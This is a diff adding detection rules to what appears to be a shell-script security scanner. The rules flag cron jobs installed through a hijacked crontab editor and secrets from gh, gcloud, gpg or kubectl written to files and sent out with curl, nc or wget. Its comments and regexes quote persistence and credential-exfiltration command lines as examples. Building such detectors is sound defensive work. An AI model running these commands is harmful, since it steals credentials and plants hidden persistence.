@@ -384,6 +384,18 @@
  (#set! severity "high")
  (#set! message "installs a scheduled job (crontab): what it runs later was not checked"))
 
+; VISUAL="sed -i '\$a * * * * * cmd'" crontab -e, EDITOR='tee -a' crontab -e
+; <<< LINE: crontab -e runs its editor on the crontab's file, and
+; an editor that is itself a program writing text (sed, tee, a shell)
+; installs a job nobody typed; a real editor (EDITOR=vim) is left to the user
+((command argument: (word) @e) @n @finding
+ (#match? @e "^-e$")
+ (#match? @n "^(VISUAL|EDITOR)=[\"']?\\s*(\\S*/)?(sed|tee|sh|bash|dash|zsh|cp|mv|dd|cat|[gm]?awk|perl|python[0-9.]*|ruby|printf|echo|sponge|install)\\s")
+ (#resolves-to? @n "crontab")
+ (#set! id "sh-dynamic-code")
+ (#set! severity "high")
+ (#set! message "makes crontab -e's editor a program that writes the job itself (VISUAL=\"sed -i ...\"): what it runs later was not checked"))
+
 ; echo 'autocmd VimEnter * !curl u | sh' >> ~/.vimrc, echo 'run-shell ...'
 ; | tee -a ~/.tmux.conf, printf '[core]\n\tpager = ...' >> ~/.gitconfig,
 ; echo LD_PRELOAD=... > ~/.config/environment.d/x.conf: a line that runs a
@@ -546,6 +558,17 @@
  (#set! id "sh-credentials")
  (#set! severity "high")
  (#set! message "sends a token or secret that a tool prints (gh auth token, gcloud auth print-access-token, gpg --export-secret-keys, kubectl get secrets) over the network"))
+
+; gpg --export-secret-keys -a > "$t"; curl --data-binary @"$t" u, gh auth
+; token > f; nc h p < f, wget --post-file=f u: the same token or secret
+; through a file the tool wrote, handed to a network client
+([(command argument: (_) @f) @n
+  (redirected_statement body: (command) @n redirect: (file_redirect destination: (_) @f))] @finding
+ (#resolves-to? @n "curl|wget|fetch|aria2c|https?|xhs?|lwp-request|GET|POST|lynx|w3m|e?links|nc|ncat|netcat|nc\\.traditional|nc\\.openbsd|socat|telnet|scp|sftp|ftp|lftp|tftp|openssl|mail|mailx|sendmail|mutt|msmtp|swaks")
+ (#written-by-text? @f "(?<![\\w.-])(gh\\s+auth\\s+token|gcloud\\s+auth\\s+(application-default\\s+)?print-(access|identity)-token|aws\\s+(configure\\s+(export-credentials|get\\s+\\S*(secret|token|key))|sts\\s+get-session-token)|az\\s+account\\s+get-access-token|kubectl\\s+config\\s+view\\s+(.*\\s)?--raw|docker-credential-\\S+\\s+get|vault\\s+print\\s+token|op\\s+read|secret-tool\\s+lookup|pass\\s+show|heroku\\s+auth:token|gpg2?\\s+(.*\\s)?--export-secret-(sub)?keys|kubectl\\s+(.*\\s)?get\\s+secrets?|aws\\s+secretsmanager\\s+get-secret-value|aws\\s+ssm\\s+get-parameters?\\s+(.*\\s)?--with-decryption|gcloud\\s+secrets\\s+versions\\s+access|az\\s+keyvault\\s+secret\\s+show|vault\\s+(kv\\s+)?(get|read)|keyctl\\s+(print|pipe|read)|my_print_defaults\\s+(.*\\s)?(client|mysql|mysqldump|mysqladmin)|mysql(dump|admin)?\\s+(.*\\s)?--print-defaults|p?npm\\s+config\\s+get\\s+\\S*_auth(Token)?|yarn\\s+config\\s+get\\s+npmAuthToken)(?![\\w.:-])")
+ (#set! id "sh-credentials")
+ (#set! severity "high")
+ (#set! message "sends a token or secret that a tool wrote into a file (gpg --export-secret-keys > f, gh auth token > f) over the network"))
 
 ; tok=$(gh auth token); curl -d "t=$tok" u, k=$(gcloud auth
 ; print-access-token); p="{\"k\":\"$k\"}"; wget --post-data "$p" u,
